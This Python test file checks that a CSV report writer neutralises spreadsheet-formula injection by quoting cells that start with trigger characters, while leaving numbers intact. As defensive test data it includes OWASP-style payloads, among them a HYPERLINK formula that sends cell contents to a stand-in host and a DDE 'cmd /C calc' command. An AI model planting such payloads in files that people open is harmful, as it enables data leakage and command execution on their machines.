"""Every CSV file the kit writes is safe to open in a spreadsheet (OWASP's CSV-injection rule), and a
column of numbers stays numbers (:func:`reference.world.fileio.spreadsheet_cell`)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from reference.experiments.report import to_csv
from reference.world.fileio import spreadsheet_cell

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_number_text(text: str) -> bool:
    """The referee, written differently from PLAIN_NUMBER: Python's float() parses it, it is spelled with
    digits only (no inf, nan, underscores or spaces), and it has at least one digit."""
    if text == "-":
        return True
    allowed = set("0123456789.eE+-")
    if not text or set(text) - allowed or not any(c.isdigit() for c in text):
        return False
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\x1b1234567890.eE xa(),")), max_size=12))
def test_no_cell_starts_a_formula_and_numbers_stay_numbers(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert isinstance(cell, str)
    assert "\n" not in cell and "\r" not in cell and "\x1b" not in cell   # one line, controls escaped
    if is_number_text(text):
        assert cell == text                                                   # -3.5 stays -3.5
    elif text.startswith(TRIGGERS):
        assert cell.startswith("'")                                           # -1+cmd is text


def test_hand_worked_cells() -> None:
    # OWASP's examples and the folder names, quoted; numbers, as numbers or as text, kept
    assert spreadsheet_cell('=HYPERLINK("http://x?"&A1,"click")') == '\'=HYPERLINK("http://x?"&A1,"click")'
    assert spreadsheet_cell("+SUM(1,2)") == "'+SUM(1,2)" and spreadsheet_cell("@SUM(1+1)") == "'@SUM(1+1)"
    assert spreadsheet_cell("-1+cmd") == "'-1+cmd" and spreadsheet_cell("-3.5") == "-3.5"
    assert spreadsheet_cell(-3.5) == -3.5 and spreadsheet_cell(7) == 7 and spreadsheet_cell(None) is None


def test_the_experiments_tables_are_neutralised_and_keep_their_numbers() -> None:
    rows = [{"maze": "=cmd|' /C calc'!A0", "delta": -3.5, "text": "-2.25", "none": "-"}]
    read = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert read == [{"maze": "'=cmd|' /C calc'!A0", "delta": "-3.5", "text": "-2.25", "none": "-"}]
    assert float(read[0]["delta"]) == -3.5
